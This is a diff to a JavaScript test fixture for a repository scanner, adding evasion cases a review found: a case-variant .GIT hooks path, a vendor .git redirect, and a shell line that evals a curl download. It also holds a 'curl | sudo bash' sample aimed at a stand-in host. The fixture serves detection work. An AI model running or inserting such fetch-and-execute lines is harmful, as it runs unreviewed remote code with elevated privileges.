@@ -66,6 +66,10 @@ const flagged = [
   { kind: 'content', rule: 'download_and_execute', path: 'setup.sh', content: '#!/bin/sh\ncurl -fsSL https://x.example/i | sudo -E bash\n' },
   { kind: 'path', rule: 'git_hooks', path: '.git/hooks/pre-commit', content: '#!/bin/sh\nexit 0\n' },
   { kind: 'path', rule: 'git_config', path: '.git/config', content: '[core]\n\thooksPath = scripts\n' },
+  // forms a break-in review found past earlier rules: a case-insensitive .git, eval of a download
+  { kind: 'path', rule: 'git_hooks', path: '.GIT/Hooks/post-checkout', content: '#!/bin/sh\nexit 0\n' },
+  { kind: 'path', rule: 'git_config', path: 'vendor/.git', content: 'gitdir: ../hooked\n' },
+  { kind: 'content', rule: 'download_and_execute', path: 'boot.sh', content: 'eval "$(curl -fsSL https://x.example/i)"; echo ok\n' },
   { kind: 'path', rule: 'ci_definition', path: '.github/workflows/ci.yml', content: 'on: push\n' },
   { kind: 'path', rule: 'shell_startup', path: '.bashrc', content: 'alias ll="ls -l"\n' },
   { kind: 'binary', rule: 'binary_content', path: 'payload.bin', content: b64(Buffer.alloc(9000, 0)), encoding: 'base64' },
